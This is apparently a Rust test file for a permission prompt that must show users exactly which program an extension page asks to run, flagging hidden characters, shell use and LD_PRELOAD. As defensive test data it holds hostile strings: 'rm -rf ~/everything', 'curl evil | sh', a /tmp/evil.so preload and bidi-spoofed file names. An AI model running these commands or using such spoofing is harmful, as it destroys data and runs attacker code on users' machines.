//! A prompt shows what will happen, whatever the page makes of its texts.

use porthole_tests::window::App;
use serde_json::{Value, json};

use crate::{
    drawn::drawn_right_under,
    page::{extension, in_page, open, shows},
};

const LOOKS: &str = include_str!("../../hostile/pages/looks.js");

/// What the prompt draws must have none of these: controls, marks of direction, and what is drawn as nothing.
const UNSEEN: &str =
    r"/[\u0000-\u0009\u000b-\u001f\u007f-\u00a0\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/";

async fn asked(app: &App, look: &str) {
    in_page(app, &format!("window.looks.{look}(); return true")).await;
    app.until("the prompt", "document.querySelector('#prompt')?.open").await;
    let unseen = format!("{UNSEEN}.exec(document.querySelector('#prompt').textContent)?.[0].codePointAt(0) ?? null");
    assert_eq!(app.value(&unseen).await, Value::Null, "{look}: a hidden character is drawn");
    drawn_right_under(app, &format!("prompt-{look}")).await;
}

async fn opened() -> (tempfile::TempDir, App) {
    let folder = extension("Looks \u{202e}gpj", LOOKS);
    let app = App::open().await;
    open(&app, folder.path()).await;
    shows(&app, "print", "ready").await;
    (folder, app)
}

/// Whether an element of the prompt can be seen without scrolling.
async fn in_sight(app: &App, text: &str) {
    let found = format!(
        "[...document.querySelectorAll('#prompt-args .visible')].some((part) => {{
           const at = document.createTreeWalker(part, NodeFilter.SHOW_TEXT);
           while (at.nextNode()) {{
             const from = at.currentNode.data.indexOf({text});
             if (from < 0) continue;
             const range = document.createRange(); range.setStart(at.currentNode, from); range.setEnd(at.currentNode, from + 1);
             const box = range.getBoundingClientRect();
             const seen = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
             return document.querySelector('#prompt-args').contains(seen)
           }}
           return false }})",
        text = json!(text)
    );
    app.until(text, &found).await;
}

#[tokio::test]
async fn a_payload_below_sixty_line_breaks_and_one_below_many_comments_are_in_sight() {
    let (_folder, app) = opened().await;
    asked(&app, "lines").await;
    in_sight(&app, "rm -rf ~/everything").await;
    app.decide("deny").await;
    asked(&app, "comments").await;
    in_sight(&app, "curl evil | sh").await;
    let label = app.text("#prompt-args").await;
    assert!(label.contains("201 lines"), "{label}");
    app.decide("deny").await;
    asked(&app, "long").await;
    let label = app.text("#prompt-args").await;
    assert!(label.contains("12,400 characters"), "{label}");
    app.decide("deny").await;
    app.close().await;
}

#[tokio::test]
async fn names_and_arguments_with_hidden_characters_show_them() {
    let (_folder, app) = opened().await;
    asked(&app, "bidi").await;
    let program = app.text("#prompt-program").await;
    assert!(program.contains("/tmp/invoice⟨U+202E⟩fdp.sh"), "{program}");
    let args = app.prompted_args().await;
    let expected =
        ["⟨U+2066⟩gnp.photo⟨U+2069⟩", "a⟨U+200B⟩b", "c⟨U+00A0⟩d", "⟨U+FEFF⟩e", "␣␣f␣␣", "⇥", "empty", "⟨U+001B⟩[2J"];
    assert_eq!(args, expected);
    // The name that the extension has is its own word.
    let title = app.text("#prompt-title").await;
    assert!(!title.contains('\u{202e}'), "{title}");
    assert!(app.text("#prompt-from").await.starts_with("the page of"), "who asks is Porthole's word");
    app.decide("deny").await;
    app.close().await;
}

#[tokio::test]
async fn a_shell_line_and_what_is_set_for_a_program_are_pointed_out() {
    let (_folder, app) = opened().await;
    asked(&app, "shell").await;
    assert!(app.text("#prompt-shell").await.contains("through a shell"));
    app.decide("deny").await;
    asked(&app, "env").await;
    let env = app.text("#prompt-env").await;
    assert!(env.contains("LD_PRELOAD") && env.contains("/tmp/evil.so"), "{env}");
    assert!(app.text("#prompt-env-loading").await.contains("can change which code"));
    app.decide("deny").await;
    app.close().await;
}
